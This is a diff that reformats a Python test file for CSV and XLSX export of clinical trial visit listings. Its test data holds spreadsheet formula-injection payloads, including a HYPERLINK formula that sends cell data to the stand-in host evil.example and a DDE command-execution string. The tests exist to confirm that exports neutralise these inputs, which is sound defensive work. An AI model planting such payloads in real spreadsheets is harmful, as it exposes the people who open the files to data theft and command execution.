@@ -12,12 +12,27 @@ from openpyxl.utils.escape import unescape
 
 from trialcoord.adapters.tabular import csv_text, xlsx_bytes
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", " =1", "\r=1",
-           "  \t-1", "=cmd|' /C calc'!A0"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    " =1",
+    "\r=1",
+    "  \t-1",
+    "=cmd|' /C calc'!A0",
+]
 COLUMNS = ["participant", "visit", "days_outside", "detected", "closed", "note"]
 ROWS = [
-    {"participant": "101-001", "visit": "V2", "days_outside": -2, "detected": date(2025, 3, 4),
-     "closed": None, "note": "Zoë's visit — 予定外"},
+    {
+        "participant": "101-001",
+        "visit": "V2",
+        "days_outside": -2,
+        "detected": date(2025, 3, 4),
+        "closed": None,
+        "note": "Zoë's visit — 予定外",
+    },
     ("101-002", "V3", 4.5, date(2025, 12, 31), datetime(2026, 1, 2, 9, 30), "ok"),
 ]
 
@@ -77,8 +92,10 @@ def test_xlsx_never_stores_a_formula_or_a_link():
     with zipfile.ZipFile(io.BytesIO(data)) as package:
         sheet_xml = package.read("xl/worksheets/sheet1.xml")
         assert b"<f>" not in sheet_xml and b"<hyperlink" not in sheet_xml
-        assert not any("externalLink" in name or ".rels" in name and b"hyperlink" in package.read(name)
-                       for name in package.namelist())
+        assert not any(
+            "externalLink" in name or ".rels" in name and b"hyperlink" in package.read(name)
+            for name in package.namelist()
+        )
 
 
 def test_xlsx_keeps_numbers_dates_none_and_unicode():
@@ -118,11 +135,17 @@ def test_xlsx_sheet_names_follow_excels_rules():
 def test_round_trip_of_a_few_rows_through_both_formats():
     rows = [("101-001", 3, date(2025, 1, 31), "=1"), ("101-002", -1, None, "plain")]
     columns = ["participant", "days", "when", "note"]
-    assert read_csv(csv_text(columns, rows)) == [columns, ["101-001", "3", "2025-01-31", "'=1"],
-                                                 ["101-002", "-1", "", "plain"]]
+    assert read_csv(csv_text(columns, rows)) == [
+        columns,
+        ["101-001", "3", "2025-01-31", "'=1"],
+        ["101-002", "-1", "", "plain"],
+    ]
     sheet = read_xlsx(xlsx_bytes("Listing", columns, rows))
     assert list(sheet.iter_rows(values_only=True)) == [
-        tuple(columns), ("101-001", 3, datetime(2025, 1, 31), "=1"), ("101-002", -1, None, "plain")]
+        tuple(columns),
+        ("101-001", 3, datetime(2025, 1, 31), "=1"),
+        ("101-002", -1, None, "plain"),
+    ]
 
 
 def test_an_empty_listing_is_just_its_header():
